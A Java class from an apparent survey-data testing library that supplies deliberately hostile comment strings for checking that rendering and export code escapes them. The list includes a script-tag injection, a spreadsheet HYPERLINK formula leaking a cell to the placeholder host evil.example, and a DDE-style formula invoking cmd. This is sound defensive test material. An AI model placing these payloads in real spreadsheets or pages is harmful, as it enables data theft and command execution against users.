package io.github.nps4j.synthetic;

import java.util.List;

/**
 * The hostile texts a {@link SyntheticPortfolio} plants while {@linkplain SyntheticPortfolio.Builder#hostileText
 * hostile text} is on: comments with quotes, commas, line breaks, {@code <script>}, spreadsheet formulas and non-Latin
 * text, and two account names with a comma and quotes or Japanese text. Code that renders, exports or logs survey data
 * can be checked against them: every one must come out escaped, quoted or neutralised, never interpreted.
 *
 * <p>{@link Truth#hostileCommentResponseIds()} names the responses that carry a hostile comment. Example usage:
 * <pre>{@code
 * for (String text : HostileText.comments()) {
 *     assertFalse(myRenderer.toHtml(text).contains("<script>"));
 * }
 * }</pre>
 *
 * @since 0.1.0
 */
public final class HostileText {
    /** Hostile comments: each is used once when hostile text is on. */
    private static final List<String> COMMENTS = List.of(
            "He said \"never again\", and he meant it.",
            "Line one\nLine two\n\nLine four, after a blank line",
            "<script>alert('nps')</script> Great service!",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
            "-2+3+cmd|' /C calc'!A0",
            "配送が二度遅れました。サポートは親切でした。",
            "Доставка задержалась — التسليم تأخر 👎",
            "Tab\there; backslash C:\\temp\\new & \"quotes\", trailing comma,");
    /** An account name with a comma, an ampersand and quotes. */
    static final String NAME_COMMA = "Smith, Jones & \"Partners\" Ltd";
    /** An account name in Japanese. */
    static final String NAME_CJK = "株式会社さくら物流";
    private static final List<String> ACCOUNT_NAMES = List.of(NAME_COMMA, NAME_CJK);

    private HostileText() {
    }

    /**
     * Returns the hostile comments, in the order the generator uses them. The list may grow in later versions.
     *
     * @return an unmodifiable list of non-blank texts
     */
    public static List<String> comments() {
        return COMMENTS;
    }

    /**
     * Returns the hostile account names: one with a comma, an ampersand and quotes, one in Japanese.
     *
     * @return an unmodifiable list of non-blank names
     */
    public static List<String> accountNames() {
        return ACCOUNT_NAMES;
    }
}
